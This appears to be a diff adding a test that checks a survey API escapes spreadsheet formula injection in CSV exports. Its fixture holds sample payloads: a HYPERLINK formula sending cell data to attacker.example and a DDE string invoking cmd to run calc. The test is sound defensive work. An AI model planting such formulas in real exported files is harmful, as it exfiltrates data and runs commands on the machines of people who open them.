@@ -8,11 +8,14 @@ import csv
 import datetime as dt
 import io
 import math
+import shutil
 
 import pandas
 import pytest
 from pyjstat import pyjstat
 
+from api.cli import main
+from seed.loader import DATA
 from seed.synthetic import Sizes, generate
 from tests.conftest import count_queries
 from tests.datafile_helpers import app_for, cells, client_for, client_of, seeded_shares
@@ -448,3 +451,64 @@ async def test_survey_csv_streams_page_by_page_with_every_share_once(fresh_datab
     assert [(r["wave"], r["question"], r["option"], r["segment"], r["value"]) for r in rows] == [
         (str(s["wave"]), s["question"], s["option"], s["segment"], f"{s['value']:g}") for s in shown
     ]
+
+
+# Formula injection: text a spreadsheet would run is written as text --------------------------
+
+FORMULAS = {
+    "locator": '=HYPERLINK("http://attacker.example/?"&A1,"source")',
+    "note_en": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "option_label": "+1+2",
+    "title_en": "-2+3",
+}
+
+
+def _csv_cells(*cells):
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="").writerow(cells)
+    return buffer.getvalue()
+
+
+def _package_with_formulas(folder):
+    """The seed, with text that starts formulas in a share's locator and note, an option's
+    label and an indicator's title (the data steward's files are not trusted to be inert),
+    and the 2017 action-plan share lowered from 76 to 60, so that its change is negative."""
+    shutil.copytree(DATA, folder)
+    replacements = {
+        "shares.csv": (
+            "76,,published,pr17,Section on automation: the same share in 2017.,,",
+            "60,,published,pr17," + _csv_cells(FORMULAS["locator"], "", FORMULAS["note_en"]),
+        ),
+        "options.csv": ('"Yes, mentioned in the action plan"', FORMULAS["option_label"]),
+        "indicators.csv": ("Digitalisation in the action plan", FORMULAS["title_en"]),
+    }
+    for name, (old, new) in replacements.items():
+        text = (folder / name).read_text(encoding="utf-8")
+        assert old in text, (name, old)
+        (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")
+    return folder
+
+
+async def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
+    fresh_database_url, tmp_path
+):
+    package = _package_with_formulas(tmp_path / "package")
+    assert main(["import", str(package), "--database-url", fresh_database_url]) == 0
+    async with client_for(fresh_database_url) as client:
+        params = {"format": "csv", "question": "action-plan", "wave": "2017", "lang": "en"}
+        shares = read_csv((await client.get("/api/v1/shares", params=params)).text)
+        survey = read_csv((await client.get("/api/v1/surveys/kommuneundersokelsen/data")).text)
+        series = await client.get("/api/v1/indicators/action-plan?format=csv&lang=en")
+        as_json = (await client.get("/api/v1/shares", params=params | {"format": "json"})).json()
+    (share,) = shares
+    assert share["locator"] == "'" + FORMULAS["locator"]
+    assert share["note"] == "'" + FORMULAS["note_en"]
+    assert share["option_label"] == "'" + FORMULAS["option_label"]
+    assert share["value"] == "60"
+    streamed = next(r for r in survey if (r["wave"], r["question"]) == ("2017", "action-plan"))
+    assert streamed["locator"] == "'" + FORMULAS["locator"]
+    points = list(csv.DictReader(io.StringIO(series.text, newline="")))
+    assert points[0]["indicator_title"] == "'" + FORMULAS["title_en"]
+    assert points[-1]["change"] == "-8"  # a number, not a formula: left as it is
+    # Only the CSV is changed: JSON carries the text as the steward wrote it.
+    assert as_json["data"][0]["locator"] == FORMULAS["locator"]
